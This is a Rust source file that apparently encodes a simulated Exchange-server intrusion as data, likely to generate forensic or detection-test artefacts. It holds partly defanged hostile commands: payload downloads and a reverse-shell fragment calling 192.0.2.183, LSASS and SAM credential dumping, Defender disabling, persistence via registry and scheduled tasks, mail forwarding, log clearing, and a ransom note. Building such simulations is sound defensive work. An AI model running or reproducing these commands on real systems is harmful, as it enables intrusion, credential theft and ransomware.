//! What the fresh set's intruders do after the page.

use crate::attack::aftermath::{Aftermath, Deed, Left, Ransom, RegistryChange, Set};
use crate::program::{CMD, POWERSHELL, W3WP};
use crate::technique::Technique;

const WMI: &str = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";

/// A look around, by shells that the page had started: it completes the picture.
pub(super) const LOOK_AROUND: [Deed; 9] = [
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\quser.exe", "quser"),
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\nltest.exe", "nltest  /domain_trusts /all_trusts"),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Windows\\System32\\net.exe",
        "net  group \"Exchange Trusted Subsystem\" /domain",
    ),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Windows\\System32\\net1.exe",
        "C:\\Windows\\system32\\net1  accounts /domain",
    ),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Windows\\System32\\dsquery.exe",
        "dsquery  * -limit 0 -filter \"(objectCategory=computer)\" -attr dNSHostName operatingSystem",
    ),
    Deed::new(
        Technique::Discovery,
        CMD,
        "C:\\Windows\\System32\\wevtutil.exe",
        "wevtutil  qe Security /q:*[System[(EventID=4624)]] /rd:true /f:text /c:200",
    ),
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\cmdkey.exe", "cmdkey  /list"),
    Deed::new(Technique::Discovery, CMD, "C:\\Windows\\System32\\PING.EXE", "ping  -n 1 -a 10.20.0.5"),
    Deed::new(
        Technique::LateralMove,
        CMD,
        "C:\\Windows\\System32\\net.exe",
        "net  use \\\\10.20.0.5\\C$ /user:SHIOKAZE\\svc-backup",
    ),
];

/// How defence is switched off and tools are brought.
pub(super) const MAKE_READY: [Deed; 5] = [
    Deed::new(
        Technique::DefenceOff,
        W3WP,
        POWERSHELL,
        "powershell  Set-Mp¦Preference -Disable¦RealtimeMonitoring 1 -SubmitSamplesConsent NeverSend",
    ),
    Deed::new(
        Technique::DefenceOff,
        CMD,
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        "wmic.exe  product where \"name like '%Apex One%'\" call uninst¦all /nointeractive",
    ),
    Deed::new(
        Technique::Download,
        CMD,
        "C:\\Windows\\System32\\bitsadmin.exe",
        "bits¦admin  /transfer WindowsUpdates /priority normal http://192.0.2.183:8080/i.png C:\\Windows\\Help\\Corporate\\i.dat",
    ),
    Deed::new(
        Technique::Download,
        CMD,
        "C:\\Windows\\System32\\certutil.exe",
        "cert¦util  -decode C:\\Windows\\Help\\Corporate\\i.dat C:\\Windows\\Help\\Corporate\\hh.exe",
    ),
    Deed::new(
        Technique::ScriptRun,
        W3WP,
        POWERSHELL,
        "powershell.exe -NonI -e JgAgAHsAIAAkAGkAIAA9ACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApADsAIAAkAGkALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAGgAJwAsACcAawAnACkAOwAgAEkAYABFAGAAWAAgACQAaQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQA4ADMAOgA4ADAAOAAwAC8AbQBzACcAKQAgAH0A",
    ),
];

/// The firewall lets a tool in.
pub(super) const LET_IN: [Deed; 1] = [Deed::new(
    Technique::FirewallRule,
    CMD,
    "C:\\Windows\\System32\\netsh.exe",
    "netsh  advfirewall firewall add rule name=\"Secure Socket Tunneling Protocol (HTTP)\" dir=in action=allow program=\"C:\\Windows\\Help\\Corporate\\hh.exe\" enable=yes",
)];

/// How credentials, mail and the directory are taken.
pub(super) const TAKE: [Deed; 8] = [
    Deed::new(
        Technique::CredentialDump,
        CMD,
        "C:\\Windows\\System32\\reg.exe",
        "reg  save hk¦lm\\sam C:\\Windows\\Temp\\debugsms.evt",
    ),
    Deed::new(
        Technique::CredentialDump,
        CMD,
        "C:\\Windows\\System32\\reg.exe",
        "reg  save hk¦lm\\system C:\\Windows\\Temp\\debugsys.evt",
    ),
    Deed::new(
        Technique::CredentialDump,
        POWERSHELL,
        "C:\\Windows\\System32\\rundll32.exe",
        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\coms¦vcs.dll, #24 648 C:\\Windows\\Temp\\msdtcadv.tmp full",
    ),
    Deed::new(
        Technique::DirectoryDump,
        WMI,
        CMD,
        "cmd.exe /Q /c vss¦admin list shadows /for=C: 1> \\\\127.0.0.1\\ADMIN$\\__1615689034.71 2>&1",
    ),
    Deed::new(
        Technique::LateralMove,
        CMD,
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        "wmic  /node:10.20.0.5 /user:SHIOKAZE\\svc-backup process call create \"cmd /c nt¦dsutil \\\"ac in ntds\\\" ifm \\\"cr fu C:\\Windows\\Temp\\ad\\\" q q\"",
    ),
    Deed::new(
        Technique::StagedArchive,
        CMD,
        "C:\\Windows\\System32\\makecab.exe",
        "make¦cab  C:\\Windows\\Temp\\msdtcadv.tmp C:\\Windows\\Temp\\msdtc.cab",
    ),
    Deed::new(
        Technique::StagedArchive,
        CMD,
        "C:\\Windows\\Help\\Corporate\\mui.exe",
        "mui.exe  a -r -v200m -hp#Zt90 -ta20200101 -n*.pst -n*.docx C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.png D:\\共有\\",
    ),
    Deed::new(
        Technique::RemoteTool,
        CMD,
        "C:\\Windows\\Help\\Corporate\\hh.exe",
        "hh.exe  -ssh -N -R 43389:127.0.0.1:3389 -P 443 tun@192.0.2.183 -pw x",
    ),
];

/// Files that lie about under other names than their kind has.
pub(super) const LEFT: [Left; 4] = [
    Left {
        technique: Technique::CredentialDump,
        path: "C:\\Windows\\Temp\\msdtcadv.tmp",
        head: b"MDMP\x93\xa7\xb1\xd2\x11\0\0\0\x20\0\0\0",
        size: 57_344,
    },
    Left {
        technique: Technique::StagedArchive,
        path: "C:\\Windows\\Temp\\msdtc.cab",
        head: b"MSCF\0\0\0\0\x8c\x3a\0\0\0\0\0\0\x2c\0\0\0\0\0\0\0\x03\x01\x01\0\x01\0\0\0",
        size: 14_988,
    },
    Left {
        technique: Technique::StagedArchive,
        path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.part1.png",
        head: b"Rar!\x1a\x07\x01\0\x21\x04\0\0\x01\x0f",
        size: 31_004,
    },
    Left {
        technique: Technique::StagedArchive,
        path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.part2.png",
        head: b"Rar!\x1a\x07\x01\0\x9a\x77\0\0\x01\x0f",
        size: 11_730,
    },
];

/// A script of several parts: pieces of a shell that connects back.
pub(super) const CONNECT_BACK: [&str; 3] = [
    "function Invoke-Power¦ShellTcp\n{\n    [CmdletBinding(DefaultParameterSetName=\"reverse\")] Param(\n    [Parameter(Position = 0, Mandatory = $true)] [String] $IPAddress,\n    [Parameter(Position = 1, Mandatory = $true)] [Int] $Port\n    )\n    # ",
    "…\n    $client = New-Object System.Net.Sockets.TCP¦Client($IPAddress,$Port)\n    $stream = $client.Get¦Stream()\n    [byte[]]$bytes = 0..65535|%{0}\n    # ",
    "…\n}\nInvoke-Power¦ShellTcp -IPAddress 192.0.2.183 -Port 443\n",
];

/// What the last of them does before the ransom.
pub(super) const BEFORE_RANSOM: [Deed; 4] = [
    Deed::new(
        Technique::Download,
        W3WP,
        POWERSHELL,
        "powershell  -c \"(New-Object System.Net.Web¦Client).Down¦loadFile('http://192.0.2.209/vpn-service/qw.exe','C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe')\"",
    ),
    Deed::new(
        Technique::Ransom,
        WMI,
        "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
        "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
    ),
    Deed::new(
        Technique::Ransom,
        "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
        POWERSHELL,
        "powershell.exe Get-Service *sql*|Stop-Ser¦vice -Force 2>$null",
    ),
    Deed::new(
        Technique::LogClearing,
        "C:\\Windows\\System32\\pdlxmrnzqywoktbe.exe",
        POWERSHELL,
        "powershell.exe Get-EventLog -LogName * | ForEach { Clear-Event¦Log $_.Log }",
    ),
];

pub(super) const AFTERMATH: Aftermath = Aftermath {
    deeds: &TAKE,
    left: &LEFT,
    tasks: &[
        (
            "Microsoft\\Windows\\Help\\CorporateSync",
            "C:\\Windows\\System32\\msh¦ta.exe",
            "http://192.0.2.183:8080/c.hta",
            50,
        ),
        (
            "\u{30b7}\u{30b9}\u{30c6}\u{30e0}\u{76e3}\u{8996}",
            "C:\\Windows\\Help\\Corporate\\hh.exe",
            "-f corp.chm",
            120,
        ),
    ],
    services: &[
        ("AppReadinessEx", "C:\\Windows\\Help\\Corporate\\hh.exe --svc"),
        (
            "NlaHelper",
            "%COMSPEC% /C start /b C:\\Windows\\System32\\power¦shell.exe -noni -w 1 -f C:\\ProgramData\\Oracle\\java.ps1",
        ),
    ],
    registry: &[
        RegistryChange {
            technique: Technique::CredentialDump,
            hive: "SYSTEM",
            key: "ControlSet001\\Control\\Lsa",
            name: "Security Packages",
            value: Set::List(&["\"\"", "mimhelp"]),
        },
        RegistryChange {
            technique: Technique::RemoteDesktop,
            hive: "SYSTEM",
            key: "ControlSet001\\Control\\Terminal Server",
            name: "fDenyTSConnections",
            value: Set::Number(0),
        },
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SOFTWARE",
            key: "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
            name: "Debugger",
            value: Set::Text("C:\\Windows\\System32\\cmd.exe"),
        },
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SOFTWARE",
            key: "Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
            name: "Userinit",
            value: Set::Text("C:\\Windows\\system32\\userinit.exe,C:\\Windows\\Help\\Corporate\\hh.exe"),
        },
    ],
    account: "Guest",
    scripts: &[
        (
            Technique::CredentialDump,
            "function Out-Mini¦dump { Param($Process) $MiniDumpWriteDump = ([PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting')).GetNestedType('NativeMethods','NonPublic') }; Get-Process ls¦ass | Out-Mini¦dump -DumpFilePath C:\\Windows\\Temp",
        ),
        (
            Technique::MailboxExport,
            "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox soumu | Search-Mail¦box -SearchQuery 'attachment:xlsx' -TargetMailbox Guest -TargetFolder in -LogLevel Suppress",
        ),
    ],
    management: &[
        (
            Technique::MailForwarding,
            "Set-Mailbox",
            "-Identity \"MAILBOX\" -ForwardingSmtpAddress \"smtp:archive@example.net\" -DeliverToMailboxAndForward \"True\"",
        ),
        (
            Technique::MailboxAccess,
            "Add-RoleGroupMember",
            "-Identity \"Discovery Management\" -Member \"SHIOKAZE\\svc-backup\"",
        ),
        (
            Technique::MailForwarding,
            "New-TransportRule",
            "-Name \"Journal\" -SubjectContainsWords \"契約\",\"見積\" -BlindCopyTo \"archive@example.net\" -Enabled \"True\"",
        ),
    ],
    fetched: ("/aspnet_client/system_web/4_0_30319/bg.part1.png", None),
    module: ("CacheLogModule", "%windir%\\System32\\inetsrv\\cachelog.dll"),
    typed: &[
        (Technique::Download, "iwr -useb http://192.0.2.183:8080/mui.exe -o C:\\Windows\\Help\\Corporate\\mui.exe"),
        (Technique::DefenceOff, "Add-Mp¦Preference -ExclusionPath C:\\Windows\\Help -ExclusionExtension .dat"),
        (Technique::LogClearing, "wev¦tutil cl 'Windows PowerShell'; wev¦tutil cl Application"),
    ],
    hosts: &["0.0.0.0 definitionupdates.microsoft.com", "0.0.0.0 osce14-ilspn30-p.activeupdate.trendmicro.com"],
    exclusion: "C:\\Windows\\Help",
    threat: "Back¦door:ASP/SecChecker.A",
    ransom: Ransom {
        // It comes as a process of its own: see [`BEFORE_RANSOM`].
        service: ("", ""),
        notes: &[
            "F:\\decrypt_file.TxT",
            "C:\\Users\\a0-ozturk\\Desktop\\decrypt_file.TxT",
            "F:\\Shares\\Finance\\decrypt_file.TxT",
        ],
        text: "*** READ THIS FIRST ***\r\n\r\nYour servers were entered and every document, picture and database on them was locked; what matters\r\nwas copied before. Tools from the internet will not bring your files back and may dest¦roy them.\r\nSend 10.000$ in Bit¦coin within three days and write to support@example.net with your ID, then you\r\nwill receive the decry¦ptor.\r\nID ==> [ qXk3vWcbTzR8 ]\r\n",
        locked: &[
            "F:\\Shares\\Finance\\budget-2021.xlsx.kRqTbW",
            "F:\\Shares\\Finance\\leasing.pdf.kRqTbW",
            "C:\\Users\\a0-ozturk\\Documents\\mailbox-moves.csv.kRqTbW",
        ],
    },
};
